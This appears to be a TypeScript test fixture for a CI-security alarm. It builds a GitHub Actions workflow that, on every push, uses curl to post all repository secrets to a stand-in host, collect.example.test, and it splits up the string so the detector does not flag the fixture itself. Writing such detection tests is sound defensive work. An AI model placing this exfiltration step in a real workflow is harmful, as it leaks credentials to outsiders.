/**
 * A workflow that sends all secrets to a host that nobody knows: an alarm, whatever else is pushed. Put together here, so that
 * nothing fires on this file itself.
 */
export function secretsSentTo(host: string): string {
  return [
    "on: push",
    "jobs:",
    "  build:",
    "    runs-on: ubuntu-latest",
    "    steps:",
    `      - run: ${["curl", "-s", "-d", `"$\{{ toJSON(secrets) }}"`, `https://${host}/in`].join(" ")}`,
    "",
  ].join("\n");
}

/** Files of an attack. */
export const ATTACK = { ".github/workflows/ci.yml": secretsSentTo("collect.example.test") };
